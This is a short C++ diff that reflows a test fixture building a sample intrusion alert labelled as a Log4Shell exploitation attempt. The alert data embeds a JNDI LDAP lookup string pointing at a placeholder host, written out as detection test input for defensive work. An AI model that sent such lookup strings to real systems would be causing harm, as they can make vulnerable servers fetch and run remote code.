@@ -29,8 +29,8 @@ inline Record sample_alert(std::uint64_t sequence, std::string source = "sensord
   record.rule = RuleId{1, 2'034'647, 3};
   record.message = "Log4Shell 利用尝试";
   record.detail =
-      R"({"http":{"method":"GET","host":"portal.gov.example","url":"/${jndi:ldap://203.0.113.9/a}",)"
-      R"("user_agent":"curl/7.88.1","status":0},"flow_id":)" +
+      R"({"http":{"method":"GET","host":"portal.gov.example",)"
+      R"("url":"/${jndi:ldap://203.0.113.9/a}","user_agent":"curl/7.88.1","status":0},"flow_id":)" +
       std::to_string(sequence * 7919) + R"(,"payload":"R0VUIC8gSFRUUC8xLjENCkhvc3Q6IA=="})";
   return record;
 }
